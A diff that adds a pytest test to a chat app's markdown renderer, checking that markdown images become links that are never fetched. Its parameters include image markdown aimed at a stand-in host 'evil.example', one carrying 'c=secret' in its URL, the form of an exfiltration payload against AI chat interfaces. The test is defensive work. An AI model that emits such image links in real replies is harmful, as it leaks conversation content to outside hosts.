@@ -99,3 +99,23 @@ def test_markdown_renderer_keeps_ordinary_markdown(chat: ChatPage):
     assert result["hrefs"] == ["https://example.org"]
     assert result["rels"] == ["noopener noreferrer nofollow"]
     assert result["text"].startswith("Bold and em, code, a link.")
+
+
+@pytest.mark.parametrize(
+    ("source", "href", "label"),
+    [
+        ("![chart](https://evil.example/p.gif?c=secret)", "https://evil.example/p.gif?c=secret", "Image: chart"),
+        ('![](//evil.example/p.gif "title")', "//evil.example/p.gif", "Image: //evil.example/p.gif"),
+        ("![ref][r]\n\n[r]: http://evil.example/r.png", "http://evil.example/r.png", "Image: ref"),
+        ("![**bold** alt](/static/chat/favicon.svg)", "/static/chat/favicon.svg", "Image: bold alt"),
+        ("![x](data:image/png;base64,iVBORw0KGgo=)", None, "Image: x"),  # DOMPurify drops a data: href
+    ],
+)
+def test_markdown_images_are_links_never_fetched(chat: ChatPage, source: str, href: str | None, label: str):
+    """A browser fetches an image with no click: its URL could carry the conversation away."""
+    chat.open()
+    result = chat.page.evaluate(MARKDOWN_JS, source)
+    assert "img" not in result["tags"] and result["srcs"] == [], result["html"]
+    assert result["hrefs"] == [href]
+    assert label in result["text"]
+    assert result["rels"] == ["noopener noreferrer nofollow"]
